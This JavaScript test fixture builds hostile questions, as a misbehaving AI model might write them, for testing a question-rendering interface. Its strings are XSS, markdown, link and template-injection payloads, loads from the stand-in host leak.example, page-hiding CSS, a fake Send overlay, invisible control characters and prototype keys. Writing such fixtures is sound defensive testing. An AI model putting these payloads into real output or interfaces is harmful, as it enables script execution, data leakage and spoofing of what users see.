/** Questions of all types as a hostile model would write them, for the scenarios. */
import { question } from '../model-server/question-stock.mjs';

/** Where everything that loads would be loaded from. */
export const ELSEWHERE = 'leak.example';

const WORD = 'W'.repeat(20_000);
const HIDDEN = `\u202e\u2066\u200b\u200d\ufeff${String.fromCodePoint(0xe0041)}\u001b[2J\u001b]8;;https://${ELSEWHERE}\u0007`;

/** Short enough for a title, each another way of being more than text. */
const PIECES = [
  `<img src=https://${ELSEWHERE}/t.png onerror=alert(1)>`,
  '<script>alert(1)</script>',
  '[Renew](command:workbench.action.terminal.new)',
  '[Go](javascript:alert(1))',
  `![](https://${ELSEWHERE}/t.svg)`,
  '![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '$(trash) $(sync~spin)',
  HIDDEN,
  WORD,
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">',
  '<style>*{display:none!important}</style>',
  '"><div style="position:fixed;inset:0;z-index:99999">Send</div>',
  '<vscode-button onclick=alert(1) data-testid=submit>Send</vscode-button>',
  '<a id=root name=open-question href=//leak.example>x</a>',
  '`</code><base href=https://leak.example/>`',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)}',
];

/** Everything at once, in a line. */
const LINE = `${PIECES.filter((piece) => piece !== WORD).join(' ')} end`;

const MARKDOWN = [
  LINE,
  '```css\n* { display: none !important; background: url(https://leak.example/c) }\n```',
  '```mermaid\ngraph TD; A[<img src=https://leak.example/m onerror=alert(1)>]-->B; click A "javascript:alert(1)"\n```',
  '```html" onmouseover="alert(1)\n<script src=https://leak.example/s.js></script>\n```',
  '```\u202ets\nconst x = "\u001b[31m";\n```',
  '$$\\href{javascript:alert(1)}{x} \\includegraphics{https://leak.example/l.png}$$',
  '<details open ontoggle=alert(1)><summary>More</summary><form action=https://leak.example><input autofocus></form></details>',
  '| a | b |\n| - | - |\n| <img src=https://leak.example/x> | [x](command:x) |',
  `[ref]: https://${ELSEWHERE}/r "t"\n\n![a][ref] [b][ref]`,
  `<!-- ${WORD.slice(0, 200)} --> <math><mtext><style><img src=https://leak.example/z></style></mtext></math>`,
  '# <h1>Answered</h1>\n\n> Recorded: “yes”\n\n- [x] I agree',
].join('\n\n');

/**
 * @param {string} id
 * @param {number} index
 */
const option = (id, index) => ({
  id,
  label: index === 1 ? WORD : `${id} ${LINE}`,
  description: index === 2 ? WORD : MARKDOWN,
  pros: [LINE, index === 0 ? WORD : 'fast'],
  cons: [LINE],
});
const OPTIONS = ['__proto__', 'constructor', 'other', 'null', '</script>', WORD.slice(0, 300)].map(option);

/** @type {[type: string, about: string, control: Record<string, unknown>][]} */
const CONTROLS = [
  ['pick_one', 'tenant isolation between shops', { options: OPTIONS, recommended: ['constructor'], allowOther: true }],
  [
    'pick_many',
    'audit trail entries kept',
    { options: OPTIONS, recommended: ['constructor', 'other'], allowOther: true },
  ],
  ['confirm', 'eviction of stale prices', { labels: [LINE, WORD], allowOther: true }],
  ['rank', 'order of warm-up jobs', { options: OPTIONS }],
  ['rate', 'weight of memory limits', { options: OPTIONS, min: 1, max: 3, labels: [LINE, WORD] }],
  ['ask_text', 'wording of outage notices', { placeholder: LINE, multiple: true }],
  [
    'ask_code',
    'serializer for decimals',
    { language: '"><img src=x>', placeholder: LINE, content: `${LINE}\n${WORD}` },
  ],
  ['ask_image', 'sketch of dashboards', { multiple: true, accept: ['image/png'], maxSize: 1000 }],
  ['ask_file', 'sample catalogue exports', { multiple: true, accept: ['.csv'], maxSize: 1000 }],
  [
    'show_diff',
    'rewrite of header parsing',
    { title: `../../<img src=x>${HIDDEN}.ts`, before: `${LINE}\n`, content: `${WORD}\n${LINE}\n`, language: 'html' },
  ],
  ['show_plan', 'rollout across regions', { options: OPTIONS }],
  ['show_options', 'invalidations after imports', { options: OPTIONS, recommended: ['constructor'], allowOther: true }],
  ['review_section', 'retention paragraph', { title: LINE, content: MARKDOWN }],
  ['thumbs', 'nightly purge proposal', {}],
  ['emoji_react', 'mood about feature flags', { labels: [LINE, WORD, '👍', '<b>1</b>', '$(check)'] }],
  ['slider', 'seconds until expiry', { min: 0, max: 60, step: 5, start: 10, unit: LINE, labels: [LINE, WORD, LINE] }],
];

/** One question of each type: every text in it tries to be more than a text. */
export const HOSTILE_QUESTIONS = CONTROLS.map(([type, about, control], index) =>
  question({
    question: `What applies to the ${about}? ${PIECES[index]}`,
    type,
    context: `${MARKDOWN}\n\n${WORD}`,
    why: LINE,
    dimensions: ['behaviour'],
    subject: `${about} ${LINE}`,
    about: index === 0 ? '__proto__' : about,
    ...control,
  }),
);
/** What a hostile model says beside its questions. */
export const HOSTILE_WORDS = LINE;
